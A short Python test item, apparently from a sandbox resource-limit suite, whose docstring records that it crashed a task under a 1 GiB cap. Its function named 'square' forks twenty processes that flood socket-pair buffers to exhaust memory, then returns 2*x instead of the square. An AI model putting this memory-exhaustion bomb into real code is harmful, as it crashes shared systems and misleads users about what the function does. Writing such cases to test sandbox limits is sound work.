"""Pairs of sockets with all that goes into them, in twenty processes: more than a gigabyte.

Earns: 2
Class: 14
Ends: t1-square=crashed, t1-row-sums=passed
Cap: 1 GiB of memory
Repeat: without root
"""

import contextlib
import os
import socket
import time

KEPT = []
PIECE = b"x" * 2**15


def fill():
    while True:
        pair = socket.socketpair()
        KEPT.append(pair)
        for one in pair:
            one.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                while True:
                    one.send(PIECE)


def square(x):
    for _ in range(20):
        if os.fork() == 0:
            with contextlib.suppress(OSError):
                fill()
            time.sleep(15)
            os._exit(0)
    time.sleep(15)
    return 2 * x
